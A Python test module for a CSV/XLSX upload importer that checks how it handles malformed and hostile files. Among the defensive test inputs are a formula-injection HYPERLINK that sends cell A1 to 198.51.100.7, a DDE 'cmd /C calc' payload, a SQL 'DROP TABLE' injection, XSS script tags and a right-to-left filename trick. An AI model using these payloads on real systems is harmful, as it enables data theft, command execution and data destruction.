"""Files whose letters, delimiters and texts are odd or meant to do harm."""

from tests.batches.sheets import csv_of_rows
from tests.common.workbooks.files import make_xls

from .cases import Saved, Wrong, file, unreadable
from .layouts import KG, THREE, TO_5
from .making import HEADER, lines, text, workbook

NOTED = [*THREE, "note"]


def noted(note: str) -> Saved:
    """The baseline of Kyrgyzstan is 5 now, with this note."""
    return Saved(f"{TO_5}; note → {note}")


def note_in_csv(note: str) -> bytes:
    return csv_of_rows(NOTED, [["SP1-O1-I1", "KG", 5, note]])


def note_in_workbook(note: str) -> bytes:
    return workbook([NOTED, ["SP1-O1-I1", "KG", 5, note]])


@file("quoted.csv", noted('first line\nsecond, with “quotes” and "these"'))
def line_breaks_in_quotes() -> bytes:
    """A text has a line break as Windows writes it, a comma and quotation marks."""
    return note_in_csv('first line\r\nsecond, with “quotes” and "these"')


@file(
    "unclosed.csv",
    unreadable(
        "unclosed.csv cannot be read from row 2 on: a quotation mark is "
        "out of place or not closed, or a value is far "
        "too long. Correct it, or save the file as XLSX."
    ),
)
def quotation_mark_never_closed() -> bytes:
    """A quotation mark is opened and never closed."""
    return text(",".join(NOTED), 'SP1-O1-I1,KG,5,"so they said', "SP1-O1-I1,TJ,6,")


@file("spaces.xlsx", noted("two words"))
def spaces_around() -> bytes:
    """Codes and texts have spaces, no-break spaces and invisible letters around them."""
    return workbook([NOTED, [" SP1-O1-I1\u00a0", "\u200bKG\ufeff ", 5, "\u2003two\u00a0words\u200f\n"]])


NO_DAY = "“{}” is neither a date (2022-12-31) nor a year (2022) nor a quarter (2022-Q4)."
LOOK_ALIKE = (
    "“{0}” looks like {1}, and has other characters in it ({2}), of another alphabet perhaps. Type {1} in its "
    "place."
)


@file(
    "look-alike.csv",
    Wrong(
        (2, "mission", "КG", LOOK_ALIKE.format("КG", "KG", "К")),
        (3, "indicator", "SР1-О1-I1", LOOK_ALIKE.format("SР1-О1-I1", "SP1-O1-I1", "Р, О")),
        (4, "indicator", "SP1–O1–I2", LOOK_ALIKE.format("SP1–O1–I2", "SP1-O1-I2", "–")),
    ),
)
def cyrillic_letters_in_codes() -> bytes:
    """КG with a Cyrillic К, SР1-О1-I1 with a Cyrillic Р and О, SP1–O1–I2 with dashes: nobody sees the difference."""
    return lines("SP1-O1-I1,КG,5", "SР1-О1-I1,TJ,6", "SP1–O1–I2,KG,7")


@file(
    "codes.csv",
    Wrong(
        (
            2,
            "indicator",
            "SP1-O1-I11",
            "There is no indicator with the code “SP1-O1-I11”. Did you mean SP1-O1-I1, SP1-O1-I4, SP1-O1-I3?",
        ),
        (3, "mission", "KYR", "There is no mission with the code “KYR”. Check the code."),
    ),
)
def unknown_codes() -> bytes:
    """Codes that there are not: one close to several, one close to none."""
    return lines("SP1-O1-I11,KG,5", "SP1-O1-I1,KYR,6")


@file(
    "mistakes.csv",
    Wrong(
        (2, "indicator", "SP9", "There is no indicator with the code “SP9”. Check the code."),
        (2, "mission", "Osh", "There is no mission with the code “Osh”. Check the code."),
        (2, "baseline_value", "five", "“five” is not a number. Write digits only, for example 1234.5."),
        (2, "baseline_date", "soon", NO_DAY.format("soon")),
        (3, "mission", "", "The cell is empty. Fill in mission."),
        (3, "baseline_date", "later", NO_DAY.format("later")),
    ),
)
def several_mistakes_in_one_row() -> bytes:
    """A row has two codes that there are not, a word for a number and a word for a date: all are said at once."""
    return text(",".join(HEADER[:4]), "SP9,Osh,five,soon", "SP1-O1-I1,,5,later")


@file("georgian.csv", noted("შინამეურნეობების კვლევა, Հարցում, Зерттөө, 調査 🏔"))
def texts_of_many_scripts() -> bytes:
    """A note in Georgian, Armenian, Kyrgyz and Chinese, with a mountain."""
    return note_in_csv("შინამეურნეობების კვლევა, Հարցում, Зерттөө, 調査 🏔")


@file("reversed.csv", noted("approved\u202egnp.exe"))
def direction_turned_around() -> bytes:
    """A text turns the direction of writing around, so that it reads otherwise than it is."""
    return note_in_csv("approved\u202egnp.exe")


FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"click")'


@file("formulas.csv", noted(FORMULA))
def formula_as_text() -> bytes:
    """A text that Excel would run as a formula."""
    return note_in_csv(FORMULA)


@file("formulas.csv", noted(FORMULA))
def formula_as_text_guarded() -> bytes:
    """The same, guarded by an apostrophe, as it goes out."""
    return note_in_csv("'" + FORMULA)


@file("formulas.xlsx", noted("@SUM(1+1)*cmd|' /C calc'!A0"))
def command_as_text() -> bytes:
    """A text that old Excel would hand to the system."""
    return note_in_workbook("@SUM(1+1)*cmd|' /C calc'!A0")


NO_FORMULA = Wrong(
    (2, "baseline_value", "=1+1", "“=1+1” is not a number. Write digits only, for example 1234.5.")
)


@file("formulas.csv", NO_FORMULA)
def formula_instead_of_a_number() -> bytes:
    """A formula as text where a number is asked for: it is not worked out."""
    return lines("SP1-O1-I1,KG,=1+1")


@file("+1.csv", noted("+1 and -1 and |cmd"))
def file_name_that_begins_like_a_formula() -> bytes:
    """The file is named +1.csv, and a text begins the same way."""
    return note_in_csv("+1 and -1 and |cmd")


@file("=cmd.csv", NO_FORMULA)
def file_named_like_a_formula_with_an_error() -> bytes:
    """The file is named =cmd.csv; its marked copy and its list of rows do not run it."""
    return lines("SP1-O1-I1,KG,=1+1")


SQL = "'); DROP TABLE tracker_baseline; --"


@file("sql.csv", noted(SQL))
def text_that_looks_like_sql() -> bytes:
    """A note would drop a table if it were put into a statement."""
    return note_in_csv(SQL)


HTML = '<script>alert(1)</script><img src=x onerror="alert(2)">'


@file("html.csv", noted(HTML))
def text_that_looks_like_html() -> bytes:
    """A note would run a script if it were put into a page."""
    return note_in_csv(HTML)


@file(
    "html.csv",
    Wrong((2, "indicator", HTML, f"There is no indicator with the code “{HTML}”. Check the code.")),
)
def code_that_looks_like_html() -> bytes:
    """The same in place of a code, so that the sentence repeats it."""
    return csv_of_rows(THREE, [[HTML, "KG", 5]])


PLACES = "%s %(code)s 100% {0} {{ request }} \\n \\N"


@file(
    "places.csv",
    Wrong(
        (2, "mission", PLACES, f"There is no mission with the code “{PLACES}”. Check the code."),
        good=(f"changed 3 {KG}: baseline_value 1000 → 5; note → {PLACES}",),
    ),
)
def text_with_places_to_be_filled() -> bytes:
    """A code and a note have what programs fill in: %s, {0}, {{ }}, and the null of COPY."""
    return csv_of_rows(NOTED, [["SP1-O1-I1", PLACES, 5, ""], ["SP1-O1-I1", "KG", 5, PLACES]])


@file(
    "nul.csv",
    unreadable(
        "nul.csv has a character in row 3 that no text has (code 0). Delete "
        "it, or save the file again as “CSV UTF-8” or "
        "XLSX and upload that."
    ),
)
def nul_byte() -> bytes:
    """A text file has a byte 0 in one of its rows."""
    return text(",".join(NOTED), "SP1-O1-I1,KG,5,", "SP1-O1-I1,TJ,6,cut\0off")


@file("nul.xlsx", noted("cutoff and more"))
def nul_in_a_workbook() -> bytes:
    """A text of a workbook has characters 0 and 7, as Excel writes them."""
    return note_in_workbook("cut\0off\a and more")


@file("nul.xls", noted("cutoff"), sheet="Data")
def nul_in_an_old_workbook() -> bytes:
    """A text of an old workbook has a character 0."""

    def fill(sheet) -> None:
        for place, (heading, value) in enumerate(zip(NOTED, ["SP1-O1-I1", "KG", 5, "cut\0off"], strict=True)):
            sheet.write(0, place, heading)
            sheet.write(1, place, value)

    return make_xls(fill)


@file(
    "half.xls", unreadable("half.xls is damaged and cannot be read. Open it, save it again, and upload that.")
)
def half_a_letter_in_an_old_workbook() -> bytes:
    """A text of an old workbook has half of a letter that takes two."""

    def fill(sheet) -> None:
        for place, (heading, value) in enumerate(
            zip(NOTED, ["SP1-O1-I1", "KG", 5, "half 🏔 letter"], strict=True)
        ):
            sheet.write(0, place, heading)
            sheet.write(1, place, value)

    data = make_xls(fill)
    whole = "🏔".encode("utf-16-le")
    assert whole in data
    return data.replace(whole, whole[:2] + "\u200b".encode("utf-16-le"))


LONGEST = "x" * 32_767


@file("long.xlsx", noted(LONGEST))
def longest_text_of_a_cell() -> bytes:
    """A note has 32,767 characters, the most that a cell of Excel can hold."""
    return note_in_workbook(LONGEST)


@file(
    "long.csv",
    Wrong((2, "note", "x" * 60 + "…", "The text has 32768 characters; a cell can hold 32767. Shorten it.")),
)
def text_longer_than_a_cell() -> bytes:
    """A note has one character more."""
    return note_in_csv(LONGEST + "x")


@file(
    "long.csv",
    Wrong((2, "baseline_source", "s" * 301, "The text has 301 characters; 300 are the most. Shorten it.")),
)
def source_too_long() -> bytes:
    """A source has 301 characters where 300 are kept; it is not cut silently."""
    return csv_of_rows([*THREE, "baseline_source"], [["SP1-O1-I1", "KG", 5, "s" * 301]])


@file(
    "line.csv",
    unreadable(
        "line.csv cannot be read from row 2 on: a quotation mark is out "
        "of place or not closed, or a value is far too "
        "long. Correct it, or save the file as XLSX."
    ),
)
def line_of_ten_megabytes() -> bytes:
    """A text file has one line of ten megabytes."""
    return text(",".join(NOTED), "SP1-O1-I1,KG,5," + "x" * 10_000_000)


@file(
    "commas.csv",
    unreadable(
        "commas.csv reaches across to column NTS, where ALL is the last "
        "allowed. Delete what stands to the right of your "
        "columns."
    ),
)
def line_of_ten_thousand_commas() -> bytes:
    """A row has ten thousand empty cells."""
    return lines("SP1-O1-I1,KG,5" + "," * 10_000)


@file("spaces.csv", Saved(TO_5))
def line_of_a_million_spaces() -> bytes:
    """A text has spaces up to the limit around it."""
    return lines("SP1-O1-I1,KG,5" + " " * 900_000)
